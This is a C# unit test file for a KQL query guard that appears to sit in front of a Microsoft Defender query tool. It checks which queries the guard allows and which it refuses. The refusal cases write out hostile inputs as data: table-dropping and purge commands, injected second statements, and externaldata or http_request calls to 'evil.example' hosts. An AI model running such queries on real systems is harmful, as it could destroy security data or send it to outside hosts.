using DefenderMcp.Kql.Guard;

namespace DefenderMcp.Kql.Tests;

public sealed class KqlGuardTests
{
    [Theory]
    // Management commands, anywhere.
    [InlineData(".drop table DeviceProcessEvents", "management")]
    [InlineData(".show tables", "management")]
    [InlineData("  \n\t.set-or-append T <| DeviceInfo", "management")]
    [InlineData("// a comment first\n.alter table T (a:string)", "management")]
    [InlineData("DeviceInfo | take 1; .drop table DeviceInfo", "management")]
    [InlineData("DeviceInfo | take 1;\n  .purge table DeviceInfo records", "management")]
    [InlineData("DeviceInfo | .show tables", "management")]
    [InlineData("DeviceInfo <| DeviceInfo", "<|")]
    // External data and cross-cluster access.
    [InlineData("externaldata (a:string) [\"https://evil.example/x.csv\"]", "externaldata")]
    [InlineData("EXTERNALDATA (a:string) [h'https://evil.example/x.csv']", "externaldata")]
    [InlineData("external_data (a:string) [\"https://x\"]", "external_data")]
    [InlineData("external_table('t') | take 1", "external_table")]
    [InlineData("cluster('evil.kusto.windows.net').database('db').T", "cluster")]
    [InlineData("database('other').DeviceInfo", "database")]
    [InlineData("workspace('ws').SecurityEvent", "workspace")]
    [InlineData("adx('https://help.kusto.windows.net/Samples').StormEvents", "adx")]
    [InlineData("union DeviceInfo, cluster ( 'x' ).database('y').T", "cluster")]
    [InlineData("inline_external_table(x:string) kind=storage dataformat=txt (h'https://x')", "inline_external_table")]
    [InlineData("stored_query_result('r')", "stored_query_result")]
    // Plugins that reach out or run code.
    [InlineData("DeviceInfo | evaluate http_request('https://evil.example')", "http_request")]
    [InlineData("DeviceInfo | evaluate http_request_post('https://evil.example', '', '', 'x')", "http_request_post")]
    [InlineData("DeviceInfo | evaluate sql_request('Server=x', 'select 1')", "sql_request")]
    [InlineData("DeviceInfo | evaluate python(typeof(*), 'result = df')", "python")]
    [InlineData("DeviceInfo | evaluate r(typeof(*), 'result <- df')", "r")]
    [InlineData("DeviceInfo | evaluate hint.distribution = per_node http_request('https://x')", "http_request")]
    [InlineData("DeviceInfo | EVALUATE HTTP_REQUEST('https://x')", "http_request")]
    [InlineData("DeviceInfo | evaluate", "evaluate")]
    // Statements and directives.
    [InlineData("set notruncation; DeviceInfo", "set")]
    [InlineData("alias database x = cluster('c').database('d'); DeviceInfo", "alias")]
    [InlineData("declare query_parameters(p:string); DeviceInfo", "declare")]
    [InlineData("#connect cluster('x')\nDeviceInfo", "directives")]
    [InlineData("DeviceInfo | extend __x = 1", "reserved")]
    [InlineData("DeviceInfo | macro-expand entity_group [x] as X (X)", "macro-expand")]
    // Lexical problems.
    [InlineData("DeviceInfo | where DeviceName == 'unterminated", "unterminated")]
    [InlineData("DeviceInfo | where DeviceName == \"unterminated", "unterminated")]
    [InlineData("DeviceInfo | where a == ```never closed", "unterminated")]
    [InlineData("DeviceInfo | where Timestamp > datetime(2024-01-01", "unterminated")]
    [InlineData("DeviceInfo | where a == 'bad \\q escape'", "escape")]
    [InlineData("DeviceInfo | where a == 'x\u0001y'", "control")]
    [InlineData("DeviceInfo\u0000 | take 1", "control")]
    [InlineData("", "empty")]
    [InlineData("   ", "empty")]
    public void Refuses(string query, string reasonContains)
    {
        var result = KqlGuard.Check(query);

        Assert.False(result.Allowed, query);
        Assert.Contains(reasonContains, result.Rejection!, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("DeviceProcessEvents | where ProcessCommandLine has \".drop\"")]
    [InlineData("DeviceProcessEvents | where ProcessCommandLine has '.drop table'")]
    [InlineData("DeviceInfo // externaldata and cluster('x') in a comment\n| take 1")]
    [InlineData("DeviceInfo | where DeviceName == @'C:\\externaldata\\'")]
    [InlineData("DeviceInfo | where DeviceName == 'evaluate http_request(x)'")]
    [InlineData("DeviceInfo | where DeviceName == ```.drop table T\n<| externaldata```")]
    [InlineData("DeviceInfo | where DeviceName == ~~~cluster('x')~~~")]
    [InlineData("DeviceInfo | where DeviceName == h'secret-but-harmless'")]
    [InlineData("DeviceInfo | project ['externaldata'] = DeviceName")]
    [InlineData("DeviceInfo | where DeviceName == \"a \\\"quoted\\\" .show\"")]
    [InlineData("DeviceInfo | where DeviceName == @\"say \"\"hi\"\"\"")]
    [InlineData("DeviceInfo | evaluate bag_unpack(AdditionalFields)")]
    [InlineData("DeviceInfo | evaluate hint.distribution = per_node autocluster()")]
    [InlineData("DeviceProcessEvents | where Timestamp > ago(7d) | summarize count() by bin(Timestamp, 1h)")]
    [InlineData("DeviceProcessEvents | where Timestamp between (datetime(2024-01-01) .. datetime(2024-01-02))")]
    [InlineData("let x = 5; DeviceInfo | take x")]
    [InlineData("DeviceProcessEvents | project-away AdditionalFields | mv-expand x = todynamic(AdditionalFields)")]
    [InlineData("DeviceInfo | where DeviceName !contains 'dc' and DeviceName !in~ ('a','b')")]
    [InlineData("DeviceInfo | where RegistryDeviceTag == 'databases'")]
    [InlineData("DeviceNetworkEvents | where RemoteUrl endswith \".example\" | take 10")]
    [InlineData("let bad = dynamic(['mimikatz.exe', \"procdump.exe\"]); DeviceProcessEvents | where FileName in (bad)")]
    public void Allows(string query)
    {
        var result = KqlGuard.Check(query);

        Assert.True(result.Allowed, result.Rejection);
        Assert.Null(result.Rejection);
    }

    [Fact]
    public void Refuses_more_than_ten_thousand_characters_but_accepts_exactly_ten_thousand()
    {
        var prefix = "DeviceInfo | take 1 //";
        Assert.True(KqlGuard.Check(prefix + new string('x', 10_000 - prefix.Length)).Allowed);
        Assert.Contains("10,000", KqlGuard.Check(prefix + new string('x', 10_001 - prefix.Length)).Rejection!, StringComparison.Ordinal);
    }

    [Fact]
    public void Rejection_never_echoes_the_query_text()
    {
        var result = KqlGuard.Check(".drop table SecretTableName_1234567890 with (whatever)");

        Assert.DoesNotContain("SecretTableName", result.Rejection!, StringComparison.Ordinal);
    }

    [Fact]
    public void Warns_about_search_star_and_a_wide_timespan_without_a_time_filter()
    {
        var wide = KqlGuard.Check("search * | take 5", new KqlGuardOptions { Timespan = TimeSpan.FromDays(30) });
        var filtered = KqlGuard.Check("DeviceInfo | where Timestamp > ago(1d)", new KqlGuardOptions { Timespan = TimeSpan.FromDays(30) });
        var narrow = KqlGuard.Check("DeviceInfo | take 5", new KqlGuardOptions { Timespan = TimeSpan.FromDays(1) });

        Assert.True(wide.Allowed);
        Assert.Contains(wide.Warnings, w => w.Contains("search *", StringComparison.Ordinal));
        Assert.Contains(wide.Warnings, w => w.Contains("No time filter", StringComparison.Ordinal));
        Assert.DoesNotContain(filtered.Warnings, w => w.Contains("No time filter", StringComparison.Ordinal));
        Assert.Empty(narrow.Warnings);
    }

    [Fact]
    public void Random_input_never_throws()
    {
        var random = new Random(1234);
        const string alphabet = "abc.|;'\"@`~h()[]{}<>=!#/\\ \n\t0123456789xyz_-";
        for (var i = 0; i < 5000; i++)
        {
            var text = new string([.. Enumerable.Range(0, random.Next(0, 80)).Select(_ => alphabet[random.Next(alphabet.Length)])]);
            var result = KqlGuard.Check(text);
            Assert.True(result.Allowed || result.Rejection is not null);
        }
    }
}
